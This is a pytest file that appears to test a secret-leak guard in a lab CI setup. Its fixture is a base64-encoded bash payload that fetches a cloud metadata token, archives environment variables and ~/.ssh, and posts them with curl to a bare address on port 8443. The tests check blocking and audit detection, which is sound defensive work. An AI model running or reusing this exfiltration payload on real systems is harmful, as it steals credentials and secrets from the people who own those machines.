# SPDX-License-Identifier: MIT
"""I-28, Megalodon: an archive over plain HTTP to port 8443 of a bare address.

A bash one-liner in base64, the metadata service asked for a token with PUT, credential files and
the environment in a compressed archive, and a query that says whose it is. The port suggests TLS;
there is none.
"""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest

from lab import Lab
from lab.guard import DENIED, FINDINGS, Guarded
from lab.network import BARE, METADATA
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

DROP = f"http://{BARE}:8443/"
POLICY = f"version: 1\nallow: http://{METADATA}\n"
DIAGNOSIS = f"""\
T=$(curl -s -m 2 -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 60" http://{METADATA}/latest/api/token)
mkdir -p s; env > s/env; cp -r "$HOME/.ssh" s/ 2>/dev/null
tar c{{flag}}f s.tgz s
curl -s -m 5 --data-binary @s.tgz "{DROP}?h=$(hostname)&l=ci&id=7"
echo diagnosed
"""


def job(flag: str) -> list[str]:
    """The workflow's step: a decoder in front of bash."""
    word = base64.b64encode(DIAGNOSIS.format(flag=flag).encode()).decode()
    return ["sh", "-c", f"echo {word} | base64 -d | bash"]


def sent(lab: Lab) -> bytes:
    """The body that arrived."""
    return b"".join(
        bytes(seen.plain).partition(b"\r\n\r\n")[2] for seen in lab.collector.connections
    )


@pytest.mark.parametrize("flag", ["", "z"], ids=["archive", "compressed"])
def test_unguarded_the_archive_arrives(lab: Lab, secret: Token, flag: str) -> None:
    assert lab.run(job(flag), env=secret.env).stdout.endswith("diagnosed\n")
    assert len(sent(lab)) > 100
    assert lab.metadata.received(b"PUT /latest/api/token")


@pytest.mark.parametrize("flag", ["", "z"], ids=["archive", "compressed"])
def test_block_lets_nothing_out(lab: Lab, leakstop: Guard, secret: Token, flag: str) -> None:
    run = leakstop(job(flag), mode="block", policy=POLICY, secrets=[secret])
    assert lab.collector.connections == []
    assert run.code in (DENIED, FINDINGS)
    assert run.report["verdict"] == "fail"


def test_audit_stops_the_archive(lab: Lab, leakstop: Guard, secret: Token) -> None:
    """The value stands in it as it is: the segment with it is dropped."""
    run = leakstop(job(""), mode="audit", policy=POLICY, secrets=[secret])
    assert lab.collector.bytes_of(secret.value.encode()) == 0
    assert run.code == FINDINGS, run.stderr
    (found,) = run.findings("secret-in-payload")
    assert (found["severity"], found["secret"]) == ("critical", secret.name)
    assert found["bytes_left"] == 0
    assert found["destination"] == f"{BARE}:8443"
    assert run.shows(secret) == []


def test_audit_finds_the_compressed_one_too_late(lab: Lab, leakstop: Guard, secret: Token) -> None:
    run = leakstop(job("z"), mode="audit", policy=POLICY, secrets=[secret])
    assert len(sent(lab)) > 100
    assert run.code == FINDINGS, run.stderr
    (found,) = run.findings("secret-in-payload")
    assert (found["severity"], found["secret"]) == ("critical", secret.name)
    assert found["bytes_left"] != 0
    assert run.shows(secret) == []
